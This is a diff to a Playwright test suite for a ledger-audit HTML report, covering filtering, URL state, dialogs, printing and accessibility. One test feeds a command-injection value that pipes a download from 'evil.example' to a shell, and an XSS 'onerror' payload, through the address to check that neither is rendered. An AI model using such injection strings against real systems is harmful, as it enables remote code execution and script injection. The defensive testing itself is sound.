@@ -8,12 +8,13 @@ from collections.abc import Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 
-from tests.reports.html.pages import LOUD, giant, small
+from tests.reports.html.pages import LOUD, MARKUP, giant, small
 
 CHROMIUM = shutil.which("chromium")
 FLAGS = [
@@ -36,13 +37,20 @@ class Open:
     asked: list[str] = field(default_factory=list)
 
     def rows(self, table: str = "table.findings") -> list[str]:
-        """The text of a table's visible rows."""
-        return [row.inner_text() for row in self.page.locator(f"{table} tbody tr").all() if row.is_visible()]
+        """The text of a table's rows that are in the page."""
+        return self.page.locator(f"{table} tbody tr:not(.empty)").all_inner_texts()
 
     def column(self, table: str, number: int) -> list[str]:
-        return [
-            cell.inner_text() for cell in self.page.locator(f"{table} tbody tr > :nth-child({number})").all()
-        ]
+        return self.page.locator(f"{table} tbody tr:not(.empty) > :nth-child({number})").all_inner_texts()
+
+    def said_of_findings(self, words: str) -> None:
+        """Wait until the line above the findings says this."""
+        expect(self.page.locator("#shown")).to_have_text(words)
+
+    def unroll(self) -> None:
+        """Make the window so tall that every row is in sight."""
+        self.page.evaluate("document.getElementById('list').style.maxHeight = 'none'")
+        self.page.set_viewport_size({"width": WIDE, "height": 9_000})
 
 
 def numbers(texts: list[str]) -> list[int]:
@@ -76,11 +84,13 @@ def opened(browser: Browser, tmp_path: Path, request: pytest.FixtureRequest) -> 
     page.on("console", lambda message: seen.said.append(f"{message.type}: {message.text}"))
     page.on("pageerror", lambda error: seen.said.append(str(error)))
     page.on("request", lambda asked: seen.asked.append(asked.url))
-    page.goto(seen.url)
+    page.goto(seen.url + how.get("at", ""))
+    if how.get("script", True):
+        page.wait_for_selector("#list.virtual")
     yield seen
     assert not seen.said
     # The icon is written out in the page itself.
-    assert [url for url in seen.asked if url != "data:,"] == [seen.url]
+    assert {url.partition("#")[0] for url in seen.asked} - {"data:,"} == {seen.url}
     context.close()
 
 
@@ -97,6 +107,7 @@ def test_without_its_script_the_page_is_whole(opened: Open) -> None:
 
 
 def test_findings_are_sorted_by_the_numbers_of_ledgers(opened: Open) -> None:
+    opened.unroll()
     head = opened.page.get_by_role("columnheader", name="Ledger", exact=True)
     assert head.get_attribute("aria-sort") is None
     head.get_by_role("button").click()
@@ -122,20 +133,45 @@ def test_bookies_are_sorted_by_any_column(opened: Open) -> None:
 
 def test_findings_are_filtered_by_words_severity_and_check(opened: Open) -> None:
     page = opened.page
-    assert len(opened.rows()) == 25
-    status = page.get_by_role("status")
-    page.get_by_label("Search").fill("Finding BK-17:3181")
+    opened.said_of_findings("All 45 findings.")
+    page.keyboard.press("/")
+    page.keyboard.type("Finding BK-17:3181")
+    opened.said_of_findings("1 of 45 findings.")
     assert ["finding number 17" in row for row in opened.rows()] == [True]
-    assert status.inner_text() == "1 of 1 that fit, of 45 shown."
     page.get_by_role("button", name="Clear").click()
-    expect(page.locator("#shown")).to_have_text(re.compile("^25 of 45"))
+    opened.said_of_findings("All 45 findings.")
     page.get_by_role("checkbox", name="note").uncheck()
-    assert len(opened.rows()) == 3
+    opened.said_of_findings("3 of 45 findings.")
     page.get_by_role("combobox", name="Check", exact=True).select_option("entry-lost")
-    assert len(opened.rows()) == 1
+    opened.said_of_findings("1 of 45 findings.")
     page.get_by_role("checkbox", name="critical").uncheck()
+    opened.said_of_findings("0 of 45 findings.")
     assert opened.rows() == []
-    assert status.inner_text() == "0 of 0 that fit, of 45 shown."
+
+
+def test_a_fingerprint_is_found_by_all_of_it_only(opened: Open) -> None:
+    search = opened.page.get_by_label("Search")
+    search.fill("0000000000000007")
+    opened.said_of_findings("1 of 45 findings.")
+    search.fill("00000000000000")
+    opened.said_of_findings("0 of 45 findings.")
+
+
+def test_what_is_shown_is_in_the_address(opened: Open) -> None:
+    page = opened.page
+    page.get_by_label("Search").fill("bk-1")
+    page.get_by_role("checkbox", name="critical").uncheck()
+    page.get_by_role("columnheader", name="Bookie").first.get_by_role("button").click()
+    page.locator("table.findings").get_by_role("button", name="Ledger").click()
+    page.locator("table.findings").get_by_role("button", name="Ledger").click()
+    before = page.locator("#shown").inner_text(), opened.rows()
+    assert before[0].endswith(" of 45 findings.")
+    address = page.url
+    page.goto("about:blank")
+    page.goto(address)
+    page.wait_for_selector("#list.virtual")
+    assert (page.locator("#shown").inner_text(), opened.rows()) == before
+    assert page.get_by_label("Search").input_value() == "bk-1"
 
 
 def test_suppressed_findings_stand_apart(opened: Open) -> None:
@@ -143,20 +179,101 @@ def test_suppressed_findings_stand_apart(opened: Open) -> None:
     assert "entry-lost" not in opened.rows()[0], "the only critical one is suppressed"
     choice = page.get_by_role("combobox", name="Suppressed")
     choice.select_option("only these")
+    opened.said_of_findings("1 of 45 findings.")
     [row] = opened.rows()
     assert row.startswith("critical")
     assert "suppressed" in row
     choice.select_option("left out")
-    page.get_by_role("button", name="Show all 44").click()
+    opened.said_of_findings("44 of 45 findings.")
     assert not [each for each in opened.rows() if each.startswith("critical")]
 
 
-def test_more_findings_are_shown_when_they_are_asked_for(opened: Open) -> None:
+@pytest.mark.parametrize("opened", [{"text": giant}], indirect=True)
+def test_only_rows_in_sight_are_in_the_page(opened: Open) -> None:
     page = opened.page
-    page.get_by_role("button", name="Show all 45").click()
-    assert len(opened.rows()) == 45
-    assert page.get_by_role("status").inner_text() == ""
-    assert not page.locator("#more").is_visible()
+    opened.said_of_findings("All 3,000 findings.")
+    assert len(opened.rows()) < 60
+    page.locator("#list").focus()
+    page.keyboard.press("End")
+    last = page.locator('table.findings tr[aria-rowindex="3001"]')
+    expect(last).to_be_in_viewport()
+    assert len(opened.rows()) < 60
+
+
+def test_a_ledger_is_drawn_when_it_is_asked_for(opened: Open) -> None:
+    page, dialog = opened.page, opened.page.get_by_role("dialog")
+    page.get_by_label("Search").fill("below-ack-quorum")
+    opened.said_of_findings("1 of 45 findings.")
+    page.locator("table.findings").get_by_role("link", name="7", exact=True).click()
+    expect(dialog.get_by_role("table", name=re.compile("^Ledger 7: what each bookie holds"))).to_be_visible()
+    dialog.get_by_role("listitem").get_by_role("link").click()
+    expect(dialog).to_contain_text("fingerprint", ignore_case=True)
+    page.go_back()
+    expect(dialog.get_by_role("heading", name="Ledger 7")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(dialog).not_to_be_visible()
+    assert page.url.endswith("#find=below-ack-quorum"), "the filter stays"
+
+
+def test_a_bookie_is_drawn_and_leads_to_its_findings(opened: Open) -> None:
+    page, dialog = opened.page, opened.page.get_by_role("dialog")
+    page.locator("table.bookies").get_by_role("link", name="bk-a:3181").click()
+    expect(dialog.get_by_role("row", name="Lack entries 9 of 40 replicas")).to_be_visible()
+    assert dialog.locator("code.command").inner_text() == "bkaudit explain bookie bk-a:3181 --run /runs/last"
+    dialog.get_by_role("link", name="Findings that name it").click()
+    expect(dialog).not_to_be_visible()
+    assert page.get_by_label("Search").input_value() == "bk-a:3181"
+
+
+@pytest.mark.parametrize(
+    ("opened", "commands"),
+    [
+        ({"at": f"#ledger={2**62}"}, [f"bkaudit explain ledger {2**62} --run /runs/last"]),
+        ({"at": "#bookie=x%3Bcurl+evil.example|sh"}, []),
+        ({"at": "#finding=%3Cimg+src=x+onerror=alert(1)%3E"}, []),
+    ],
+    indirect=["opened"],
+)
+def test_what_is_not_drawn_has_a_command_of_the_run_and_never_of_the_address(
+    opened: Open, commands: list[str]
+) -> None:
+    dialog = opened.page.get_by_role("dialog")
+    expect(dialog).to_contain_text("It is not drawn on this page.")
+    assert dialog.locator("code.command").all_inner_texts() == commands
+    assert opened.page.locator("img").count() == 0
+
+
+@pytest.mark.parametrize("opened", [{"at": "#finding=00000000000000ff"}], indirect=True)
+def test_hostile_text_that_was_packed_stays_text(opened: Open) -> None:
+    dialog = opened.page.get_by_role("dialog")
+    expect(dialog).to_contain_text(MARKUP + LOUD[:20])
+    assert "evidence" not in opened.page.title()
+    assert opened.page.title().startswith("Not healthy: ")
+    assert dialog.locator("script, img, style").count() == 0
+    opened.page.goto(f"{opened.url}#{urlencode({'bookie': MARKUP})}")
+    expect(dialog.get_by_role("heading", name=MARKUP)).to_be_visible()
+    assert opened.page.locator("img").count() == 0
+    assert opened.page.title().startswith("Not healthy: ")
+
+
+@pytest.mark.parametrize("opened", [{"at": "#bookie=bk-a:3181"}], indirect=True)
+def test_a_command_is_copied(opened: Open) -> None:
+    page = opened.page
+    button = page.get_by_role("dialog").locator("code.command + .copy")
+    button.click()
+    expect(button).to_have_text(re.compile("Copied|Selected"))
+
+
+def test_paper_has_the_rows_that_fit_as_a_whole(opened: Open) -> None:
+    page = opened.page
+    page.get_by_role("checkbox", name="note").uncheck()
+    opened.said_of_findings("3 of 45 findings.")
+    page.emulate_media(media="print")
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert len(opened.rows()) == 3
+    assert not page.locator(".copy").first.is_visible()
+    message = page.locator("table.findings tbody p").last
+    assert message.evaluate("node => node.scrollHeight <= node.clientHeight"), "nothing of it is cut"
 
 
 def test_everything_is_reached_by_keyboard(opened: Open) -> None:
@@ -198,6 +315,8 @@ def test_a_check_s_name_leads_to_what_to_do(opened: Open) -> None:
 )
 def test_no_rule_of_accessibility_is_broken(opened: Open) -> None:
     opened.page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
+    opened.page.evaluate("location.hash = '#ledger=42'")
+    opened.page.get_by_role("dialog").wait_for()
     found = Axe().run(opened.page).response["violations"]
     told = [(each["id"], [node["html"][:160] for node in each["nodes"][:3]]) for each in found]
     assert told == []
@@ -209,7 +328,7 @@ def test_rows_and_cells_stay_rows_and_cells_in_a_narrow_window(opened: Open) -> 
     row = (
         page.get_by_role("table", name="Findings, the worst first, suppressed ones last")
         .get_by_role("row")
-        .nth(1)
+        .nth(2)
     )
     assert row.get_by_role("cell").count() == 5
 
@@ -234,7 +353,7 @@ def test_light_and_dark_differ_and_paper_is_always_light(opened: Open) -> None:
 
 def test_a_picture_has_its_words(opened: Open) -> None:
     page = opened.page
-    page.get_by_role("img", name="lacks 11 (1 entry)").wait_for()
+    page.get_by_role("img", name="lacks 11 (1 entry)").first.wait_for()
     picture = page.get_by_role("table", name="Ledger 42: what each bookie holds and lacks, entries 0 to 11")
     row = picture.get_by_role("row", name="bk-a:3181")
     assert row.locator("path.cell.missing").count() == 1
